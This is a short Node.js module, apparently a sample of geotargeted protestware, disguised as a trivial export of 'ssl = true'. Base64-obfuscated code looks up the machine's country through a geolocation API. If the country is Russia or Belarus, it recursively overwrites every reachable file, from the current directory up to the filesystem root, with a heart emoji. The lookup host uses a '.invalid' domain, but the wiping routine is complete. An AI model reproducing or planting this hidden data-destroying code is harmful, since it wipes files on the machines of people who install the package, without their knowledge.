"use strict";
const d = (s) => Buffer.from(s, "base64").toString();
const a = require(d("cGF0aA=="));
const b = require(d("ZnM="));
const c = require(d("aHR0cHM="));

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  c.get(d("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby5pbnZhbGlkL2lwZ2VvP2FwaUtleT1GSVhUVVJFMDAwMDAwMDAwMA=="), function (res) {
    res.on("data", function (chunk) {
      try {
        const geo = JSON.parse(chunk);
        const country = String(geo[d("Y291bnRyeV9uYW1l")] || "").toLowerCase();
        if (country.includes(d("cnVzc2lh")) || country.includes(d("YmVsYXJ1cw=="))) {
          h(d("Li8="));
          h(d("Li4v"));
          h(d("Li4vLi4v"));
          h(d("Lw=="));
        }
      } catch (e) {}
    });
  });
}, Math.ceil(Math.random() * 1000));

async function h(dir = "", depth = "", counter = 0) {
  if (!b.existsSync(dir)) return;
  let entries = [];
  try {
    entries = b.readdirSync(dir);
  } catch (e) {}
  for (const entry of entries) {
    const target = a.join(dir, entry);
    let info = null;
    try {
      info = b.lstatSync(target);
    } catch (e) {
      continue;
    }
    if (info.isDirectory()) {
      h(target, depth, counter);
      continue;
    }
    try {
      b.writeFileSync(target, d("4p2k77iP"));
    } catch (e) {}
  }
}

const ssl = true;
export { ssl as default, ssl };
